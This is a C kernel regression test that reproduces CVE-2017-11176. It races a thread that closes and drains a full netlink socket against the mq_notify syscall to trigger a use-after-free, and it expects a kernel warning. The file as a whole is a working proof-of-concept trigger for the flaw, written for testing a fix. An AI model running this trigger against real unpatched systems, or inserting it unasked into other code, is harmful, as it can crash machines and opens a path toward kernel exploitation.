/* SPDX-License-Identifier: BSD-2-Clause */
/* tests/kernel-published/mq-notify.c - CVE-2017-11176
 * fix: mqueue: fix a use-after-free in sys_mq_notify()
 * expected: WARNING in netlink_release
 * mq_notify waits for a socket whose queue is full, and which another thread closes and reads meanwhile. */
#include <fcntl.h>
#include <linux/netlink.h>
#include <mqueue.h>
#include <pthread.h>
#include <signal.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int closed, other;

static void *close_it(void *unused)
{
	static char text[65536];

	(void)unused;
	sleep(1);
	close(closed);
	while (recv(other, text, sizeof(text), MSG_DONTWAIT) > 0)
		;
	return NULL;
}

/* Fills the queue of a socket and prepares the wait for it. */
static void prepare(void)
{
	struct sockaddr_nl address = { .nl_family = AF_NETLINK, .nl_pid = 77 };
	int sender = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_USERSOCK), size = 0;
	static char text[4096];

	closed = socket(AF_NETLINK, SOCK_DGRAM, NETLINK_USERSOCK);
	bind(closed, (struct sockaddr *)&address, sizeof(address));
	setsockopt(closed, SOL_SOCKET, SO_RCVBUF, &size, sizeof(size));
	while (sendto(sender, text, sizeof(text), MSG_DONTWAIT, (struct sockaddr *)&address, sizeof(address)) > 0)
		;
	other = dup(closed);
}

int main(void)
{
	static char cookie[32];
	struct sigevent event = { .sigev_notify = SIGEV_THREAD };
	pthread_t thread;

	prepare();
	event.sigev_signo = closed;
	event.sigev_value.sival_ptr = cookie;
	pthread_create(&thread, NULL, close_it, NULL);
	syscall(SYS_mq_notify, 0, &event);
	close(other);
	sleep(1);
	return 0;
}
